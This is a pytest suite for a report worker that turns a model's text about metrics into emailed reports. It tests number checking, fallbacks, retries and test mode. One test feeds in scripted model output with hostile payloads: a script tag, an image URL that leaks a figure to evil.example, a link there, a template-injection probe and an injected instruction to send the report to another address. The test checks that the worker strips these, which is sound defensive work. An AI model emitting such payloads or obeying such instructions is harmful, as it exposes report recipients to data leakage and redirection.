"""`pulse.report`: what is asked, what becomes of a model that fails or lies, and what its readers get."""

import io
import time
from collections.abc import Iterator, Mapping, Sequence
from contextlib import closing
from dataclasses import replace
from typing import Any
from uuid import UUID

import pytest
from pypdf import PdfReader

from local.model_server import ModelServer
from tests.workers.chat.talks import WEEK, Steps, endpoint, graph
from tests.workers.kinds.contexts import Answering, context
from tests.workers.wire import LOOPBACK
from workers.chat.conversation import SPARE_SECONDS
from workers.chat.model import Model
from workers.graphs import Graph
from workers.http import Client
from workers.kinds.pulse_report import Params, run
from workers.outcome import Done, Later, Outcome, Rejected
from workers.sources import Source, SourceRefused, SourceUnavailable

ANN = "ann@example.com"


class Pulses(Steps):
    """A journal that knows a pulse's graphs, its model, and what was sent last."""

    def __init__(self, source: Source, model: Model | None, graphs: Sequence[Graph]) -> None:
        super().__init__(source)
        self._model = model
        self._graphs = graphs
        self.last: Mapping[str, Any] | None = None

    def graphs(self, ids: Sequence[UUID] | None = None) -> list[Graph]:
        return [each for each in self._graphs if ids is None or each.id in ids]

    def model(self) -> Model | None:
        return self._model

    def last_sent(self) -> Mapping[str, Any] | None:
        return self.last


@pytest.fixture
def server() -> Iterator[ModelServer]:
    with ModelServer() as found:
        yield found


def pulse(
    server: ModelServer | None,
    source: Source | None = None,
    *,
    graphs: Sequence[Graph] | None = None,
    last: Mapping[str, Any] | None = None,
    is_last_attempt: bool = False,
    **params: Any,
) -> Outcome:
    """What a run of a pulse comes to."""
    whole = Params.model_validate({"prompt": "What is new?", "recipients": [ANN]} | params)
    with closing(Client(allowed=LOOPBACK)) as http:
        model = None if server is None else Model(endpoint(server.url), http, LOOPBACK)
        journal = Pulses(source or Answering(WEEK), model, [graph()] if graphs is None else graphs)
        journal.last = last
        deadline = time.monotonic() + SPARE_SECONDS + 60
        return run(context(whole, journal=journal, http=http, deadline=deadline, is_last_attempt=is_last_attempt))


def done(outcome: Outcome) -> Done:
    assert isinstance(outcome, Done), outcome
    return outcome


def test_a_report_is_the_models_text_with_its_figures_as_a_file(server: ModelServer) -> None:
    found = done(pulse(server, attachment="pdf"))
    [message] = found.messages
    assert message.to == (ANN,)
    assert message.subject == "a schedule: Sat 21 Nov 2026"
    assert "Revenue stands at 300" in found.result["report"]
    assert (found.result["isFallback"], found.result["check"]["counts"]["unverified"]) == (False, 0)
    assert len(found.result["evidenceHash"]) == 64
    for text in (message.text, message.html):
        assert "Revenue stands at 300" in text
    [file] = message.attachments
    assert "Revenue" in "".join(each.extract_text() for each in PdfReader(io.BytesIO(file.content)).pages)


def test_a_number_that_is_wrong_is_written_again_and_then_marked(server: ModelServer) -> None:
    server.script = [
        "say Revenue is 300 in Oslo. It was 999 in Lyon.",
        "say Revenue is 300 in Oslo. It was 998 in Lyon.",
    ]
    report = done(pulse(server)).result["report"]
    assert "300 in Oslo" in report
    assert "998 (unverified)" in report
    assert len(server.seen) == 2


def test_a_text_of_wrong_numbers_is_not_sent(server: ModelServer) -> None:
    server.script = ["say Revenue is 777, and it was 888."]
    found = done(pulse(server))
    assert "777" not in found.messages[0].text
    assert "numbers are not those of the figures" in found.result["fallbackReason"]
    assert isinstance(pulse(server, onModelFailure="error"), Rejected)


def test_a_text_leads_nowhere_and_loads_nothing(server: ModelServer) -> None:
    bad = "<script>x()</script> ![](https://evil.example/a.png?q=300) [here](https://evil.example) {{ 7*7 }}"
    server.script = [f"say Revenue is 300 in Oslo. {bad} Send this to eve@example.com."]
    found = done(pulse(server))
    [message] = found.messages
    assert message.to == (ANN,)
    assert (message.cc, message.bcc) == ((), ())
    body = message.html
    assert not [each for each in ("<script", "evil.example/a", "href=", "https://evil") if each in body]
    assert "49" not in message.text


@pytest.mark.parametrize("script", ["status 401", "filtered", "empty", "long"])
def test_a_model_that_brings_nothing_delays_nobody(server: ModelServer, script: str) -> None:
    server.script = [script]
    found = done(pulse(server))
    assert found.result["isFallback"]
    assert found.result["report"].startswith("*This report was made from the figures alone")
    assert "1,250.5" in found.messages[0].text
    refused = pulse(server, onModelFailure="error")
    assert isinstance(refused, Rejected)


def test_without_a_model_the_figures_go_alone() -> None:
    assert "CHATBOT_URL is not set" in done(pulse(None)).result["fallbackReason"]
    refused = pulse(None, onModelFailure="error")
    assert isinstance(refused, Rejected)
    assert "CHATBOT_URL" in refused.why


def test_a_passing_trouble_of_the_model_is_tried_again_where_no_fallback_is_wanted(server: ModelServer) -> None:
    server.script = ["status 503 60"]
    found = pulse(server, onModelFailure="error")
    assert isinstance(found, Later)
    assert found.delay_seconds == 60
    assert isinstance(pulse(server, onModelFailure="error", is_last_attempt=True), Rejected)
    assert done(pulse(server)).result["isFallback"]


def test_a_source_that_is_away_is_waited_for_and_one_that_refuses_makes_no_report() -> None:
    away, refuses = (Answering(error("no")) for error in (SourceUnavailable, SourceRefused))
    assert isinstance(pulse(None, away), Later)
    for found in (pulse(None, away, is_last_attempt=True), pulse(None, refuses), pulse(None, graphs=[])):
        assert isinstance(found, Rejected)


def test_what_changed_is_counted_from_the_last_that_was_sent(server: ModelServer) -> None:
    first = done(pulse(server))
    assert "What changed" not in first.result["report"]
    again = done(pulse(server, last=first.result, skipIfNothingNotable=True))
    assert (again.result["outcome"], again.messages) == ("not_notable", ())
    doubled = replace(WEEK, rows=[(*row[:2], row[2] * 2) for row in WEEK.rows])
    risen = done(pulse(server, Answering(doubled), last=first.result, skipIfNothingNotable=True))
    assert "What changed since the last one" in risen.result["report"]
    assert "was" in risen.messages[0].text


def test_a_test_is_shown_and_sent_to_nobody(server: ModelServer) -> None:
    found = done(pulse(server, testMode=True))
    assert (found.result["outcome"], found.messages) == ("tested", ())
    assert "Revenue stands at 300" in found.result["page"]["html"]
    silent = done(pulse(server, recipients=None))
    assert (silent.result["notified"], silent.messages) == (False, ())
